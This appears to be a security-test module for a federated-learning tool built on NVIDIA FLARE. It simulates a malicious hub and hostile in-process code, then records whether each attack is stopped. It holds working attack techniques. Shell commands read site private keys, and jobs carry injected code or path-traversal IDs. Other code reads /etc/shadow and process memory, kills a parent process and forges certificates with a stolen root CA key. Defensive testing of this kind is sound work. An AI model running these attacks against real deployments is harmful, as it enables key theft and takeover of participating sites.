"""An attacker that speaks FLARE: see :mod:`benchmarks._attack`.

In a malicious hub :class:`Gate` takes the place of fedvine's own, so it is in FLARE's parent
process of the server, and sends the sites what FLARE can send: every administrative message, jobs
with code, messages inside of messages, network diagnostics. :func:`inside` is what such code would
do in FLARE's process at a site. Beside an honest hub there are :func:`any_role`,
:func:`a_sites_kit` and :func:`another_user`.
"""

from __future__ import annotations

import codecs
import contextlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import traceback
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_constant import FLContextKey
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.core_cell import TargetMessage
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey, ReturnCode
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.private.admin_defs import Message, MsgHeader
from nvflare.private.defs import RequestHeader, TrainingTopic
from nvflare.private.fed.client.client_req_processors import ClientRequestProcessors

from benchmarks._attacker import PHASE, VICTIM, Victims, tell
from fedvine.federation import job_files
from fedvine.federation.site_line import JOB, SOCKET, Line, connect

SECONDS = 5.0
NUMBER = "11111111-2222-3333-4444-555555555555"
INSIDE = "JFK"          # whose FLARE process runs the attacker's code
LEFT = "attack.json"    # in FLARE's folder there: what that code tried, and what became of it
NOBODY = 65534
PEOPLE = {RequestHeader.USER_NAME: "eve", RequestHeader.SUBMITTER_NAME: "eve",
          RequestHeader.REQUIRE_AUTHZ: "false"}


class Gate(FLComponent):
    """In place of the hub's gate: attacks once, when the first job runs at the victim."""

    def handle_event(self, event_type: str, fl_ctx: Any) -> None:
        """Begin in a thread of its own, once the server is there."""
        if event_type == EventType.SYSTEM_BOOTSTRAP:
            server = fl_ctx.get_prop(FLContextKey.SITE_OBJ)
            threading.Thread(target=self._attack, args=(server,), daemon=True).start()

    def _attack(self, server: Any) -> None:
        while True:
            time.sleep(0.5)
            names = {c.name for c in server.client_manager.get_clients().values()}
            jobs = [name for name in server.cell.core_cell.agents
                    if name.startswith(f"{VICTIM}.")]
            if VICTIM in names and jobs:
                break
        try:
            Messages(server.cell, jobs[0]).all()
        except Exception as error:
            tell("F1", "the attack broke off", VICTIM,
                 "".join(traceback.format_exception(error)[-3:]), False)


class Messages:
    """What a hub can send through FLARE; ``job`` is the victim's process of a job."""

    def __init__(self, cell: Any, job: str) -> None:
        self.cell, self.job = cell, job
        self.kit = Path(os.environ["FEDVINE_HUB"]).parent / VICTIM
        self.victims = Victims(self.kit.parent)
        self.marker = self.kit.parent / "was-here"

    def all(self) -> None:
        """Send all of it."""
        topics = sorted({topic for one in ClientRequestProcessors.request_processors
                         for topic in one.get_topics()} - {TrainingTopic.CHECK_STATUS})
        for topic in topics:
            self.ask("F1", f"FLARE's {topic}", topic, self.body(topic), **self.headers(topic))
        for role in ("project_admin", "super"):
            self.ask("F1", f"the shell, as one with the role {role}", "sys.shell",
                     f"cat {self.kit}/site.toml", **{RequestHeader.USER_ROLE: role})
        self.ask("F2", 'a job of one whose role is "super"', TrainingTopic.DEPLOY, archive(),
                 **self.deployed(submitter_role="super", role="super"))
        for what, content, more in self.jobs():
            self.ask("F2", f"a job {what}", TrainingTopic.DEPLOY, content, **self.deployed(**more))
        self.ask("F2", "the start of a job with a launcher of its own", TrainingTopic.START_JOB, {},
                 **self.deployed(launcher_spec={"default": {"mode": "docker"}}))
        for topic in ("speed", "stop_cell", "change_root", "config_vars", "process_info", "stress"):
            for to in (VICTIM, self.job):
                self.send("F3", f"network diagnostics, {topic}", to, "_net_manager", topic,
                          {"size": 700_000, "target": "server"})
        self.bulk()
        for topic in ("configure_job_log", "show_stats", "shutdown", "abort_task"):
            self.send("F1", f"a command to the job's process, {topic}", self.job,
                      CellChannel.CLIENT_COMMAND, topic, {"version": 1, "handlers": {
                          "x": {"()": "os.system", "command": f"touch {self.marker}"}}})
        for to in (VICTIM, self.job):
            self.send("F1", "an event in a site's process, fed.event", to,
                      CellChannel.AUX_COMMUNICATION, "fed.event", Shareable())
        there = all((self.kit / part).exists() for part in (
            "memory", "startup/client.key", "own.key", "site.toml"))
        tell("F1", "all of it: what is left", VICTIM, "no file of the attacker's, and memory, keys "
             "and table are there" if there and not self.marker.exists() else "SOMETHING IS GONE",
             there and not self.marker.exists(), "the folder itself")

    def body(self, topic: str) -> Any:
        """Return a body that would do harm."""
        return {"sys.shell": f"cat {self.kit}/startup/client.key",
                TrainingTopic.DEPLOY: archive(**{"custom/evil.py": self.evil()}),
                TrainingTopic.CHECK_RESOURCE: {"num_of_gpus": 1},
                TrainingTopic.CANCEL_RESOURCE: {"num_of_gpus": 1}}.get(topic, "")

    def headers(self, topic: str) -> dict[str, Any]:
        """Return headers that would do harm."""
        if topic in (TrainingTopic.DEPLOY, TrainingTopic.START_JOB):
            return self.deployed(byoc=True)
        return {RequestHeader.JOB_ID: "memory"}

    def evil(self) -> str:
        """Return code that leaves a mark."""
        return f"open({str(self.marker)!r}, 'w').write('!')\n"

    def jobs(self) -> Iterator[tuple[str, bytes, dict[str, Any]]]:
        """Yield jobs that are none of fedvine's: what, the archive, the description."""
        config = f"config/{job_files.CLIENT}"
        own = job_files.job_files("out", 4)[job_files.CLIENT]
        yield "with a folder of code", archive(**{"custom/evil.py": self.evil()}), {"byoc": True}
        yield "that names another class", archive(**{config: own.replace(
            job_files.CLASSES[3], "subprocess.Popen")}), {}
        yield "that names another executor", archive(**{config: own.replace(
            job_files.CLASSES[0], "nvflare.app_common.executors.common_executor.X")}), {}
        yield "whose number is a path", archive(), {"job_id": "../memory"}
        yield "with a file outside of its folder", archive(**{"../../site.toml": "x"}), {}

    def deployed(self, role: str = "project_admin", **changed: Any) -> dict[str, Any]:
        """Return the headers of a job, as FLARE sends them."""
        meta = {**json.loads(job_files.job_files("out", 4)[job_files.META]), "job_id": NUMBER,
                "submitter_name": "eve", "submitter_role": role, "study": "default", **changed}
        return {RequestHeader.JOB_ID: meta["job_id"], RequestHeader.JOB_META: meta,
                RequestHeader.APP_NAME: "app", RequestHeader.USER_ROLE: role,
                RequestHeader.SUBMITTER_ROLE: role}

    def ask(self, finding: str, what: str, topic: str, body: Any, **headers: Any) -> None:
        """Send an administrative message, and write down what became of it."""
        asked = Message(topic, body)
        asked.set_headers({**PEOPLE, RequestHeader.USER_ROLE: "project_admin", **headers})
        self._sent(finding, f"the hub sends {what}", VICTIM, topic, lambda: self.cell.send_request(
            channel=CellChannel.CLIENT_MAIN, target=VICTIM, topic=topic, timeout=SECONDS,
            request=new_cell_message({}, asked)))

    def send(self, finding: str, what: str, to: str, channel: str, topic: str, body: Any) -> None:
        """Send a message of FLARE's to a process."""
        self._sent(finding, f"the hub sends {what}", to, topic, lambda: self.cell.send_request(
            channel=channel, target=to, topic=topic, timeout=SECONDS,
            request=new_cell_message({}, body)))

    def bulk(self) -> None:
        """Put the shell into a message inside of a message."""
        asked = Message("sys.shell", f"cat {self.kit}/startup/client.key > {self.marker}")
        inner = TargetMessage(VICTIM, CellChannel.CLIENT_MAIN, "x", new_cell_message({}, asked))
        self._sent("F3", "the hub sends the shell inside of another message", VICTIM, "bulk",
                   lambda: self.cell.core_cell.send_request(
                       channel=CellChannel.CELLNET, target=VICTIM, topic="bulk", timeout=SECONDS,
                       request=new_cell_message({}, [inner.to_dict()])))

    def _sent(self, finding: str, what: str, to: str, topic: str, send: Callable[[], Any]) -> None:
        before = len(self.victims.lines(VICTIM))
        try:
            reply = send()
            code = reply.get_header(MessageHeaderKey.RETURN_CODE)
            found = reply.payload
            inner = isinstance(found, Message)
            held = (code not in (None, ReturnCode.OK) or (isinstance(found, Shareable) and str(
                        found.get_return_code()) not in ("None", "OK"))
                    or (inner and found.get_header(MsgHeader.RETURN_CODE) == "_error"
                        and found.body == "invalid_request"))
            answer = str(found.body if inner else f"{code} {found}")
        except Exception as error:
            held, answer = True, f"{type(error).__name__}: {error}"
        until = time.monotonic() + SECONDS
        lines: list[Any] = []
        while time.monotonic() < until and not lines:       # the line comes beside the answer
            lines = [line for line in self.victims.lines(VICTIM)[before:]
                     if line["code"] == "flare"]
            time.sleep(0.05)
        shown = f"{VICTIM}, {lines[-1]['at'][11:19]} {lines[-1]['why']}" if lines else "no line"
        tell(finding, what, to, answer, held and bool(lines), shown)


def archive(**changed: str) -> bytes:
    """Return a job's app as FLARE deploys it, with other files."""
    files = job_files.job_files("out", 4)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, text in {**{f"config/{name}": files[name] for name in (
                job_files.SERVER, job_files.CLIENT)}, **changed}.items():
            archive.writestr(name, text)
    return made.getvalue()


# -- code of the attacker's in FLARE's process at a site -----------------------------------------
def begin_inside() -> None:
    """Attack in a thread of FLARE's process of a site; what it tries is left in FLARE's folder."""
    if os.environ.get(PHASE) == "hub":
        threading.Thread(target=inside, daemon=True).start()


def inside() -> None:
    """Read, write, delete, reach and end what is not FLARE's."""
    found: list[list[Any]] = []
    kit, job = Path(os.environ["FEDVINE_SITE"]), "worker_process" in " ".join(sys.orig_argv)
    own, parent = kit / "flare", int(os.environ["ATTACK_JOIN"])
    if job:
        time.sleep(15)      # the run's own job has begun by now

    def attempt(what: str, do: Callable[[], Any], good: Callable[[Any], bool] = bool) -> None:
        try:
            answer = do()
            held, said = not good(answer), f"DONE: {str(answer)[:60]!r}"
        except Exception as error:
            held, said = True, f"{type(error).__name__}: {error}"
        found.append([f"code in FLARE's {'job' if job else 'process'} {what}", said, held])

    data = kit.parents[1] / "data"
    for file in ("site.toml", "own.key", "roster.txt", "memory", "memory/noise.jsonl",
                 "startup/client.key"):
        attempt(f"reads {file} of the kit", lambda f=file: (
            [*(kit / f).iterdir()] if f == "memory" else (kit / f).read_bytes()))
    attempt("reads the table", lambda: (data / f"{INSIDE}.parquet").read_bytes())
    attempt("reads the table by another program", lambda: subprocess.run(
        ["cat", str(data / f"{INSIDE}.parquet")], capture_output=True, check=True).stdout)
    attempt("reads /etc/shadow", lambda: Path("/etc/shadow").read_text())
    attempt("deletes the memory", lambda: shutil.rmtree(kit / "memory") or True)
    attempt("writes site.toml", lambda: (kit / "site.toml").write_text("x"))
    attempt("puts a link to the table into its own folder, and reads it", lambda: (
        (own / f"link-{job}").symlink_to(data / f"{INSIDE}.parquet"),
        (own / f"link-{job}").read_bytes())[1])
    attempt("reads the memory of fedvine join", lambda: os.read(os.open(
        f"/proc/{parent}/mem", os.O_RDONLY), 1))
    attempt("reads the environment of fedvine join", lambda: Path(
        f"/proc/{parent}/environ").read_bytes())
    attempt("ends fedvine join", lambda: os.kill(parent, 9) or True)
    attempt("connects elsewhere", lambda: socket.create_connection(("127.0.0.1", outside()), 2))
    attempt("sends a request without a seal to the site's own process", unsealed)
    (own / f"{LEFT}.{'job' if job else 'site'}").write_text(json.dumps(found))


def outside() -> int:
    """Return a port that is open and none of FLARE's: the operator's at the hub."""
    return int(os.environ["ATTACK_PORT"])


def unsealed() -> bool:
    """Ask for a job of its own, and then for the site's facts; return whether there is a reply."""
    line: Line = connect()
    line.socket.settimeout(60)
    line.send(b"", JOB)
    session = line.receive()
    if session is None or session[0] == b"B":
        raise OSError("refused: another job is at work")
    from fedvine.core.message import dumps, loads, pack, unpack
    line.send(dumps(pack({"do": "facts"})))
    line.send(b"")
    answer = line.receive()
    line.close()
    if answer is None or "error" in unpack(loads(answer[1])):
        raise OSError("refused: no seal")
    return True


def evidence(world: Any) -> None:
    """Write down what the code in FLARE's process left, with the account's line of its request."""
    place = world.folder / "kits" / INSIDE / "flare"
    files = sorted(place.rglob(f"{LEFT}.*"))
    lines = [line["why"] for line in Victims(world.folder / "kits").lines(INSIDE)]
    for what, said, held in [one for file in files for one in json.loads(file.read_text())]:
        asked = "without a seal" in what
        shown = next((why for why in lines if "signature is not good" in why or "second job" in
                      why), "") if asked else "the kernel (Landlock); nothing was asked of the site"
        tell("F4", what, INSIDE, said, held and bool(shown), shown or "no line")
    if len(files) < 2:
        tell("F4", "code in FLARE's processes", INSIDE, f"{len(files)} of 2 ran it", False)


# -- beside an honest hub ------------------------------------------------------------------------
def any_role(world: Any) -> None:
    """Certify a person with any role (whoever holds HUB/ca can), and open an operator's session."""
    from cryptography import x509
    from cryptography.hazmat.primitives import serialization
    ca = world.folder / "kits" / "ca"
    root = x509.load_pem_x509_certificate((ca / "rootCA.pem").read_bytes())
    signing = serialization.load_pem_private_key((ca / "rootCA.key").read_bytes(), None)
    for role in ("super", "org_admin", ""):
        kit = admin_kit(world, f"role-{role or 'none'}")
        certify(kit / "startup", root, signing, "eve@fedvine.local", role)
        session(world, kit, "eve@fedvine.local",
                f"a certificate with the role {role!r} opens an operator's session")


def a_sites_kit(world: Any, name: str) -> None:
    """Use a site's certificate at the operator's port."""
    kit = admin_kit(world, "site-as-admin")
    for end in ("key", "crt"):
        shutil.copy(world.folder / "kits" / name / "startup" / f"client.{end}",
                    kit / "startup" / f"client.{end}")
    session(world, kit, name, "a site's kit opens an operator's session")


def admin_kit(world: Any, name: str) -> Path:
    """Return a copy of the operator's kit."""
    kit = world.folder / name
    shutil.copytree(world.folder / "kits" / "admin", kit, dirs_exist_ok=True)
    return kit


def session(world: Any, kit: Path, user: str, what: str) -> None:
    """Try to open a session, and write down what became of it."""
    for _ in range(3):          # a hub that is busy is no refusal
        done = subprocess.run([sys.executable, "-c", (
            "import sys\nfrom pathlib import Path\nfrom fedvine.federation.flare import Console\n"
            "print(sorted(Console(Path(sys.argv[1]), sys.argv[2]).clients()))"), str(kit), user],
            capture_output=True, text=True, timeout=120, check=False)
        said = (done.stderr or done.stdout).strip().splitlines()
        if not said or "timeout" not in said[-1]:
            break
    log = [line for line in world.log().splitlines() if "operator's session; refused" in line]
    tell("F5", what, "the hub", said[-1] if said else "", done.returncode != 0 and bool(log),
         f"hub's log: {log[-1][-140:]}" if log else "no line")


def certify(folder: Path, root: Any, signing: Any, name: str, role: str) -> None:
    """Write a key, and a certificate of this name and role by the federation's authority."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID
    key, now = rsa.generate_private_key(65537, 2048), datetime.datetime.now(datetime.UTC)
    made = (x509.CertificateBuilder().subject_name(x509.Name([
        x509.NameAttribute(NameOID.COMMON_NAME, name),
        x509.NameAttribute(NameOID.ORGANIZATION_NAME, "hub"),
        *([x509.NameAttribute(NameOID.UNSTRUCTURED_NAME, role)] if role else [])]))
        .issuer_name(root.subject).public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30)).sign(signing, hashes.SHA256()))
    pem = serialization.Encoding.PEM
    (folder / "client.crt").write_bytes(made.public_bytes(pem))
    (folder / "client.key").write_bytes(key.private_bytes(
        pem, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()))


def another_user(world: Any, name: str) -> None:
    """Let another user of the machine go to FLARE's inner listener, to the socket and the kit."""
    kit = world.folder / "kits" / name
    inner, vault = environment_of(kit)
    made = [("comes to the inner listener as a process of a job", lambda: greeting(inner, name)),
            ("connects to the socket of the site's own process", lambda: socket.socket(
                socket.AF_UNIX).connect(vault) or True),
            ("reads the kit", lambda: [*kit.iterdir()])]
    codecs.lookup("idna")       # the other user may not read Python's files
    before = len(Victims(world.folder / "kits").lines(name))
    for what, do in made:
        said = as_nobody(do)
        time.sleep(1.0)
        lines = Victims(world.folder / "kits").lines(name)[before:]
        shown = lines[-1]["why"] if lines and "inner" in what else (
            "file rights; nothing was asked of the site" if "inner" not in what else "no line")
        tell("F6", f"another user of the machine {what}", name, said,
             not said.startswith("DONE") and shown != "no line", shown)


def environment_of(kit: Path) -> tuple[int, str]:
    """Return the inner port and the socket of a site; an attacker would have to search for them."""
    for entry in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if b"client_train" in (entry / "cmdline").read_bytes():
                values = dict(one.split(b"=", 1) for one in (entry / "environ").read_bytes().split(
                    b"\0") if b"=" in one)
                if values.get(b"FEDVINE_SITE") == str(kit).encode():
                    return (int(values[b"FEDVINE_INNER"].split(b":")[0]),
                            values[SOCKET.encode()].decode())
    raise OSError("no FLARE process of the site")


def greeting(port: int, name: str) -> bool:
    """Greet as FLARE's process of a job does, without the token; return whether it is let in."""
    from types import SimpleNamespace

    from nvflare.fuel.f3.sfm.constants import Types
    from nvflare.fuel.f3.sfm.sfm_conn import SfmConnection
    sent: list[bytes] = []
    conn = SimpleNamespace(name="c", send_frame=lambda frame: sent.append(bytes(frame)),
                           connector=SimpleNamespace(params={"scheme": "tcp"}, mode=None))
    SfmConnection(conn, SimpleNamespace(  # type: ignore[arg-type]
        name=f"{name}.{NUMBER}", properties={"fqcn": f"{name}.{NUMBER}"})).send_handshake(
            Types.HELLO)
    with socket.create_connection(("127.0.0.1", port), 5) as made:
        made.sendall(sent[0])
        made.settimeout(5)
        with contextlib.suppress(TimeoutError):     # it stays open
            while made.recv(4096):
                pass
            raise ConnectionError("closed after the greeting")
    return True


def as_nobody(do: Callable[[], Any]) -> str:
    """Carry something out as another user, in a process of its own; return what became of it."""
    read, write = os.pipe()
    if (child := os.fork()) == 0:
        try:
            os.close(read)
            if os.getuid() == 0:
                os.setgroups([])
                os.setgid(NOBODY)
                os.setuid(NOBODY)
            said = f"DONE: {do()}"
        except BaseException as error:
            said = f"{type(error).__name__}: {error}"
        os.write(write, said.encode()[:500])
        os._exit(0)
    os.close(write)
    with open(read, "rb") as file:
        said = file.read().decode("utf-8", "replace")
    os.waitpid(child, 0)
    return said if os.getuid() == 0 else f"{said} (as this user; only root becomes another)"
